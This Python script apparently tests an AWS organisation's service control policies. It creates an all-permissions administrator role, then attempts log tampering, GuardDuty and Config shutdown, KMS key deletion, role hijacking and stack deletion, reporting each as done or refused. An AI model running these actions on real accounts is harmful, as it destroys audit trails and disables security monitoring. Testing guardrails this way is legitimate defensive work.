"""Does in an account what its administrator would do to blind whoever watches it, one way after the other.

usage: attack.py ACCOUNT

The administrator is a role of the account that the access role makes, as nobody minds. Each way is told as done or refused.
"""

import json
import re
import sys

import boto3
import botocore.exceptions
import world

NAME = "Administrator"
EVIL = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)
HOME = "eu-west-1"


def trust(account):
    principal = {"AWS": f"arn:aws:iam::{account}:root"}
    statement = {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def administrator(account):
    """A session of an administrator of the account, who is made first."""
    iam = world.client("iam", account=account)
    management = boto3.client("sts", region_name=HOME).get_caller_identity()["Account"]
    try:
        iam.create_role(RoleName=NAME, AssumeRolePolicyDocument=trust(management))
        iam.put_role_policy(RoleName=NAME, PolicyName="all", PolicyDocument=EVIL)
    except iam.exceptions.EntityAlreadyExistsException:
        pass
    return session(account)


def session(account):
    sts = boto3.client("sts", region_name=HOME, config=world.CONFIG)
    taken = sts.assume_role(RoleArn=f"arn:aws:iam::{account}:role/{NAME}", RoleSessionName="admin")
    keys = taken["Credentials"]
    return boto3.Session(
        aws_access_key_id=keys["AccessKeyId"],
        aws_secret_access_key=keys["SecretAccessKey"],
        aws_session_token=keys["SessionToken"],
        region_name=HOME,
    )


def ways(name, account, session):
    """What is tried, in words, and the call."""
    iam, ssm, sts = session.client("iam"), session.client("ssm"), session.client("sts")
    config, guardduty = session.client("config"), session.client("guardduty")
    cloudformation = session.client("cloudformation")
    role = f"arn:aws:iam::{account}:role/orgstrap-exec"
    policy = f"arn:aws:iam::{account}:policy/orgstrap-repairs"
    detector = (guardduty.list_detectors()["DetectorIds"] or ["none"])[0]
    yield "take the repairing role", lambda: sts.assume_role(RoleArn=role, RoleSessionName="taken")
    yield "have the repairing role trust this account", lambda: iam.update_assume_role_policy(
        RoleName="orgstrap-exec", PolicyDocument=trust(account)
    )
    yield "give the repairing role more", lambda: iam.put_role_policy(
        RoleName="orgstrap-exec", PolicyName="more", PolicyDocument=EVIL
    )
    yield "make a role that looks like StackSets' own", lambda: iam.create_role(
        RoleName="stacksets-exec-0123456789abcdef0123456789abcdef",
        AssumeRolePolicyDocument=trust(account),
    )
    yield "take the rights from the repairing role", lambda: iam.detach_role_policy(
        RoleName="orgstrap-exec", PolicyArn=policy
    )
    yield "give the repairing role's policy another version", lambda: iam.create_policy_version(
        PolicyArn=policy, PolicyDocument=EVIL, SetAsDefault=True
    )
    yield "put another script into the document", lambda: ssm.update_document(
        Name="orgstrap-ec2-defaults", Content="{}", DocumentVersion="$LATEST"
    )
    yield "stop the recorder", lambda: config.stop_configuration_recorder(
        ConfigurationRecorderName="default"
    )
    yield "turn GuardDuty off", lambda: guardduty.update_detector(DetectorId=detector, Enable=False)
    if name == "log-archive":
        yield from logs(account, session)
    if name == "security":
        yield from settings(account, config, guardduty, detector)
    for stack in sorted(s["StackName"] for s in cloudformation.describe_stacks()["Stacks"]):
        if "orgstrap-" in stack:
            told = re.sub("-[0-9a-f]{8}-.*", "", stack)
            yield f"delete the stack {told}", lambda stack=stack: cloudformation.delete_stack(
                StackName=stack
            )


def logs(account, session):
    s3, kms = session.client("s3"), session.client("kms")
    bucket = f"orgstrap-cloudtrail-{account}-{HOME}"
    yield "write over a log", lambda: s3.put_object(
        Bucket=bucket, Key="AWSLogs/o-1/log.json.gz", Body=b"nothing happened"
    )
    yield "expire the logs", lambda: s3.put_bucket_lifecycle_configuration(
        Bucket=bucket,
        LifecycleConfiguration={
            "Rules": [{"ID": "x", "Status": "Enabled", "Filter": {}, "Expiration": {"Days": 1}}]
        },
    )
    yield "keep no versions", lambda: s3.put_bucket_versioning(
        Bucket=bucket, VersioningConfiguration={"Status": "Suspended"}
    )
    yield "keep the trail out", lambda: s3.delete_bucket_policy(Bucket=bucket)
    key = kms.describe_key(KeyId="alias/orgstrap/cloudtrail")["KeyMetadata"]["KeyId"]
    yield "have the key deleted", lambda: kms.schedule_key_deletion(
        KeyId=key, PendingWindowInDays=7
    )
    yield "take the tag from the key", lambda: kms.untag_resource(
        KeyId=key, TagKeys=["orgstrap:managed"]
    )
    yield "open the key", lambda: kms.put_key_policy(KeyId=key, PolicyName="default", Policy=EVIL)
    yield "name the key otherwise", lambda: kms.delete_alias(AliasName="alias/orgstrap/cloudtrail")


def settings(account, config, guardduty, detector):
    members = guardduty.list_members(DetectorId=detector)["Members"]
    some = [members[0]["AccountId"]] if members else ["111111111111"]
    yield "leave new accounts out", lambda: guardduty.update_organization_configuration(
        DetectorId=detector, AutoEnableOrganizationMembers="NONE"
    )
    yield "turn a feature off in members", lambda: guardduty.update_member_detectors(
        DetectorId=detector,
        AccountIds=some,
        Features=[{"Name": "S3_DATA_EVENTS", "Status": "DISABLED"}],
    )
    yield "let a member go", lambda: guardduty.disassociate_members(
        DetectorId=detector, AccountIds=some
    )
    yield "let a member become nobody's", lambda: guardduty.delete_members(
        DetectorId=detector, AccountIds=some
    )
    yield "archive what is found", lambda: guardduty.create_filter(
        DetectorId=detector,
        Name="quiet",
        Action="ARCHIVE",
        FindingCriteria={"Criterion": {"severity": {"GreaterThanOrEqual": 1}}},
    )
    exports = guardduty.list_publishing_destinations(DetectorId=detector)["Destinations"]
    export = exports[0]["DestinationId"] if exports else "none"
    yield "stop the export", lambda: guardduty.delete_publishing_destination(
        DetectorId=detector, DestinationId=export
    )
    yield "aggregate this account alone", lambda: config.put_configuration_aggregator(
        ConfigurationAggregatorName="orgstrap-organization",
        AccountAggregationSources=[{"AccountIds": [account], "AllAwsRegions": True}],
    )


def main(name):
    account = world.accounts()[name]
    for told, act in ways(name, account, administrator(account)):
        try:
            act()
            print(f"{told}: done")
        except botocore.exceptions.ClientError as error:
            message = error.response["Error"]["Message"]
            if "explicit deny in a service control policy" in message:
                print(f"{told}: refused")
            else:
                print(f"{told}: {error.response['Error']['Code']}")


if __name__ == "__main__":
    main(*sys.argv[1:])
